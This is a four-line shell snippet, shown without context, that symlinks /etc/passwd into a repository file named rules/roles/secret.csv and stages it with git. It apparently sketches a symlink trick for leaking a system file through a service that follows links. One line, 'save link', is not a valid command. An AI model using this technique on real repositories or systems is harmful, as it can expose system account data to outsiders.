ln -s /etc/passwd rules/roles/secret.csv
git add -A
save link
rm rules/roles/secret.csv
